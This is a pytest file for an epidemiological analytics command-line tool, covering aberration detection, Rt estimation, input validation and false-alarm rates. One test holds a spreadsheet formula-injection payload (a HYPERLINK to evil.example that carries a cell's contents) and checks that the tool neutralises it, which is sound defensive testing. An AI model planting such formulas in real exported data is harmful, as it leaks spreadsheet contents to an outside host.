"""The analytics' own rules: input checks, history, independence of series."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import numpy as np
import pytest

from eocnet.analytics.aberration import AberrationMethod
from eocnet.analytics.farrington import reference_dates
from eocnet.analytics.rt import discretised_si, estimate_rt
from tests.helpers import run_cli
from tests.test_analytics_reference import REFERENCE


def analyze(monkeypatch, capsys, database_url, *args, stdin=""):
    return run_cli(monkeypatch, capsys, database_url, "analyze", *args, stdin=stdin)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("series,period\na,2024-01-01\n", "no column count"),
        ("series,period,count\na,2024-01-01,-2\n", "line 2: count -2 is negative"),
        ("series,period,count\na,2024-01-01,2.5\n", "line 2: count '2.5' is not a whole number"),
        ("series,period,count\na,2024-01-01,x\n", "not a whole number"),
        ("series,period,count\na,2024-01-01,1\na,2024-01-01,2\n", "period 2024-01-01 twice"),
        ("series,period,count\na,01/02/2024,1\n", "is not a date"),
        ("series,period,count\na,2024-01-01,1\na,2024-01-09,1\n", "is not weekly"),
        ("series,period,count\n", "no rows"),
        ("", "is empty"),
    ],
)
def test_bad_aberration_input_is_one_clear_line(monkeypatch, capsys, database_url, text, reason):
    r = analyze(monkeypatch, capsys, database_url, "aberration", "-", stdin=text)
    assert r.code == 1
    assert r.out == ""
    assert reason in r.err and r.err.count("\n") == 1, r.err


def test_options_that_do_not_apply_are_refused(monkeypatch, capsys, database_url):
    text = "series,period,count\na,2024-01-01,1\n"
    r = analyze(
        monkeypatch,
        capsys,
        database_url,
        "aberration",
        "-",
        "--method",
        "ears-c2",
        "--no-periods",
        "3",
        stdin=text,
    )
    assert r.code == 1 and "--no-periods does not apply to ears-c2" in r.err
    r = analyze(
        monkeypatch, capsys, database_url, "aberration", "-", "--method", "ears-c4", stdin=text
    )
    assert r.code == 1 and "unknown method" in r.err
    r = analyze(
        monkeypatch,
        capsys,
        database_url,
        "aberration",
        "-",
        "--threshold-method",
        "exact",
        stdin=text,
    )
    assert r.code == 1 and "--threshold-method" in r.err


def test_unsorted_rows_and_gaps_are_fine(monkeypatch, capsys, database_url):
    start = date(2023, 1, 2)
    lines = [
        f"s,{start + timedelta(weeks=i)},{(i * 7) % 5 + (20 if i == 30 else 0)}"
        for i in range(40)
        if i != 12
    ]
    shuffled = lines[::2] + lines[1::2]
    r = analyze(
        monkeypatch,
        capsys,
        database_url,
        "aberration",
        "-",
        "--method",
        "ears-c1",
        stdin="series,period,count\n" + "\n".join(shuffled) + "\n",
    )
    assert r.code == 0, r.err
    out = rows(r.out)
    assert [f"{o['series']},{o['period']},{o['count']}" for o in out] == shuffled
    by_period = {o["period"]: o for o in out}
    # the week after the gap lacks a full baseline: no result, as R gives NA
    assert by_period[str(start + timedelta(weeks=13))]["threshold"] == ""
    assert by_period[str(start + timedelta(weeks=30))]["alarm"] == "1"
    assert by_period[str(start + timedelta(weeks=3))]["alarm"] == ""  # too little history


def test_series_names_cannot_run_as_formulas(monkeypatch, capsys, database_url):
    start = date(2023, 1, 2)
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    lines = [
        f'"{name.replace(chr(34), chr(34) * 2)}",{start + timedelta(weeks=i)},{i % 3}'
        for i in range(10)
    ]
    r = analyze(
        monkeypatch,
        capsys,
        database_url,
        "aberration",
        "-",
        "--method",
        "ears-c1",
        stdin="series,period,count\n" + "\n".join(lines) + "\n",
    )
    assert r.code == 0, r.err
    assert {o["series"] for o in rows(r.out)} == {"'" + name}


def test_a_period_depends_only_on_its_own_history():
    text = (REFERENCE / "aberration_input.csv").read_text()
    from eocnet.interop.series_files import read_weekly_series

    series = read_weekly_series(text).series["salmHospitalized"]
    method = AberrationMethod("farrington-flexible")
    full = method.detect_many([(series.dates, series.counts)])[0]
    cut = 400
    short = method.detect_many([(series.dates[:cut], series.counts[:cut])])[0]
    np.testing.assert_array_equal(full.threshold[:cut], short.threshold)
    np.testing.assert_array_equal(full.alarm[:cut], short.alarm)
    # and one series does not change another's results when run together
    other = read_weekly_series(text).series["campyDE"]
    both = method.detect_many([(other.dates, other.counts), (series.dates, series.counts)])[1]
    np.testing.assert_array_equal(full.threshold, both.threshold)


def test_reference_weeks_follow_calendar_years_as_in_r():
    # 29 February goes back to 1 March, then to the nearest Monday
    refs = reference_dates(date(2016, 2, 29), 2)
    assert refs == [date(2016, 2, 29), date(2015, 3, 2), date(2014, 3, 3)]
    assert all(d.weekday() == 0 for d in reference_dates(date(2024, 12, 30), 5))


@pytest.mark.parametrize(
    ("args", "si", "reason"),
    [
        ([], None, "give either --si-mean and --si-sd, or --si-distribution"),
        (["--si-mean", "3"], None, "--si-mean and --si-sd go together"),
        (["--si-mean", "0.5", "--si-sd", "1"], None, "mean must be greater than 1"),
        (["--si-distribution", "SI"], "day,p\n0,0.1\n1,0.9\n", "probability 0 to day 0"),
        (["--si-distribution", "SI"], "day,p\n0,0\n1,0.5\n", "sum to 0.5, not 1"),
        (["--si-distribution", "SI"], "day,p\n0,0\n2,1\n", "without gaps"),
    ],
)
def test_bad_rt_input_is_one_clear_line(
    monkeypatch, capsys, database_url, tmp_path, args, si, reason
):
    if si is not None:
        (tmp_path / "si.csv").write_text(si)
        args = [str(tmp_path / "si.csv") if a == "SI" else a for a in args]
    incidence = "date,count\n" + "".join(f"2024-01-{d:02d},{d}\n" for d in range(1, 20))
    r = analyze(monkeypatch, capsys, database_url, "rt", "-", *args, stdin=incidence)
    assert r.code == 1 and reason in r.err and r.err.count("\n") == 1, r.err


def _rt(monkeypatch, capsys, database_url, text, *extra):
    return analyze(
        monkeypatch,
        capsys,
        database_url,
        "rt",
        "-",
        "--si-mean",
        "2.6",
        "--si-sd",
        "1.5",
        *extra,
        stdin=text,
    )


def test_rt_needs_eight_days_and_leaves_windows_with_missing_days_empty(
    monkeypatch, capsys, database_url
):
    short = "date,count\n" + "".join(f"2024-01-0{d},{d}\n" for d in range(1, 8))
    r = _rt(monkeypatch, capsys, database_url, short)
    assert r.code == 1 and "at least 8 days" in r.err
    # 9 January is absent and 12 January empty: missing, not zero
    days = [d for d in range(1, 31) if d != 9]
    gappy = "date,count\n" + "".join(f"2024-01-{d:02d},{'' if d == 12 else 10 + d}\n" for d in days)
    r = _rt(monkeypatch, capsys, database_url, gappy)
    assert r.code == 0, r.err
    out = {o["window_end"]: o for o in rows(r.out)}
    for end in ("2024-01-09", "2024-01-12", "2024-01-15", "2024-01-18"):
        assert out[end]["mean"] == "" and out[end]["note"] == "missing days in the window"
    # 99% of the serial interval (mean 2.6 days, sd 1.5) lies within 8 days back
    assert out["2024-01-19"]["mean"] == out["2024-01-26"]["mean"] == ""
    assert out["2024-01-26"]["note"].startswith("missing days within the serial interval")
    assert out["2024-01-08"]["mean"] != "" and out["2024-01-27"]["mean"] != ""
    assert out["2024-01-30"]["note"] == ""
    # imported cases: the same file split into local and imported
    split = "date,local,imported\n" + "".join(f"2024-01-{d:02d},{d},1\n" for d in range(1, 15))
    r = _rt(monkeypatch, capsys, database_url, split, "--window", "3")
    assert r.code == 0, r.err
    assert [o["window_end"] for o in rows(r.out)][:2] == ["2024-01-04", "2024-01-05"]
    r = _rt(monkeypatch, capsys, database_url, "date,local,imported\n2024-01-01,1,x\n")
    assert r.code == 1 and "line 2: imported 'x' is not a whole number" in r.err


def test_rt_marks_windows_with_a_high_posterior_cv():
    """Cori et al. (2013), Web Appendix 2: the posterior CV is 1/sqrt(a + Σ I);
    below 0.3 (EpiEstim's cv_posterior) needs at least 1/0.3² - 1 = 10.1 cases."""
    si = np.array([0, 0.5, 0.5])
    few = estimate_rt(np.array([1, 1, 1, 1, 1, 1, 1, 1, 1], dtype=float), si)
    assert few.cv[0] == pytest.approx(1 / np.sqrt(1 + 7))
    assert few.note[0].startswith("few cases")
    many = estimate_rt(np.array([5, 5, 5, 5, 5, 5, 5, 5, 5], dtype=float), si)
    assert many.cv[0] == pytest.approx(1 / np.sqrt(1 + 35)) and many.note[0] == ""
    loose = estimate_rt(np.ones(9), si, cv_threshold=0.5)
    assert loose.note[0] == ""
    # imported cases add to the infectiousness only
    local = np.array([0, 2, 2, 2, 2, 2, 2, 2, 2], dtype=float)
    with_imported = estimate_rt(local, si, imported=np.full(9, 2.0))
    alone = estimate_rt(local + 2, si)
    assert with_imported.mean[0] < alone.mean[0]
    assert with_imported.cv[0] == pytest.approx(1 / np.sqrt(1 + 14))


def test_rt_posterior_is_the_gamma_of_cori_et_al():
    incidence = np.array([1, 2, 4, 8, 16, 32, 64, 128, 256, 512], dtype=float)
    si = np.array([0, 0.5, 0.5])
    est = estimate_rt(incidence, si)
    # window days 2..8 (0-based 1..7): shape 1 + cases, scale 1/(1/5 + Σ Λ)
    cases = incidence[1:8].sum()
    lam = sum(
        0.5 * incidence[t - 1] + 0.5 * (incidence[t - 2] if t >= 2 else 0) for t in range(1, 8)
    )
    assert est.mean[0] == pytest.approx((1 + cases) / (1 / 5 + lam), rel=1e-12)
    assert discretised_si(np.arange(60.0), 5.0, 2.0).sum() == pytest.approx(1, abs=1e-6)


def _weekly_csv(counts, start=date(2015, 1, 5), name="s") -> str:
    return "series,period,count\n" + "".join(
        f"{name},{start + timedelta(weeks=i)},{c}\n" for i, c in enumerate(counts)
    )


@pytest.mark.parametrize(
    ("args", "reason"),
    [
        (["--preset", "loud"], "--preset must be r-default or noufaily"),
        (["--preset", "noufaily", "--b", "3"], "--b cannot be changed with the noufaily preset"),
        (
            ["--preset", "noufaily", "--no-periods", "4"],
            "--no-periods cannot be changed with the noufaily preset",
        ),
        (["--method", "ears-c1", "--preset", "noufaily"], "noufaily preset is for farrington"),
        (["--method", "ears-c3", "--fallback"], "--fallback applies to farrington-flexible"),
    ],
)
def test_presets_refuse_what_they_set(monkeypatch, capsys, database_url, args, reason):
    r = analyze(
        monkeypatch, capsys, database_url, "aberration", "-", *args, stdin=_weekly_csv([1] * 10)
    )
    assert r.code == 1 and reason in r.err and r.err.count("\n") == 1, r.err


def test_short_history_falls_back_and_says_so(monkeypatch, capsys, database_url):
    counts = np.random.default_rng(7).poisson(20, 3 * 52 + 10)
    text = _weekly_csv(counts)
    plain = rows(analyze(monkeypatch, capsys, database_url, "aberration", "-", stdin=text).out)
    # R's behaviour: no threshold anywhere (b = 5 needs 263 weeks), and the reason
    assert all(r["threshold"] == "" for r in plain)
    assert plain[-1]["note"] == "too little history: Farrington needs 263 earlier weeks (b=5, w=3)"
    r = analyze(monkeypatch, capsys, database_url, "aberration", "-", "--fallback", stdin=text)
    assert r.code == 0, r.err
    out = rows(r.out)
    assert out[5]["threshold"] == "" and out[5]["note"].startswith("too little history, even")
    assert out[20]["threshold"] != "" and out[20]["note"].startswith("less than a year")
    assert out[60]["note"] == "fewer years: Farrington with b=1, not 5"
    assert out[-1]["note"] == "fewer years: Farrington with b=3, not 5"
    assert out[-1]["threshold"] != ""
    # a week uses only its own past: the same as Farrington with b=3 on the series
    b3 = rows(
        analyze(monkeypatch, capsys, database_url, "aberration", "-", "--b", "3", stdin=text).out
    )
    assert out[-1]["threshold"] == b3[-1]["threshold"]
    assert "alarms per 100 series-weeks on this history" in r.err


def test_the_alarm_rate_on_a_quiet_history_is_printed_beside_the_preset(
    monkeypatch, capsys, database_url
):
    """A quiet seasonal history (no outbreak): every alarm is a false alarm,
    so the rate printed is the expected false-alarm rate of the setting."""
    rng = np.random.default_rng(2013)
    weeks = 7 * 52
    text = "series,period,count\n" + "".join(
        _weekly_csv(
            rng.poisson(15 * np.exp(0.6 * np.sin(2 * np.pi * np.arange(weeks) / 52))), name=f"s{k}"
        ).split("\n", 1)[1]
        for k in range(4)
    )

    def rate(*args: str) -> float:
        r = analyze(monkeypatch, capsys, database_url, "aberration", "-", *args, stdin=text)
        assert r.code == 0, r.err
        return float(r.err.split(": ", 1)[1].split(" alarms per 100")[0])

    default, noufaily = rate(), rate("--preset", "noufaily")
    assert rate("--preset", "r-default") == default
    # both near the nominal 5% on Poisson counts without outbreaks
    assert 0 < default < 10 and 0 < noufaily < 10
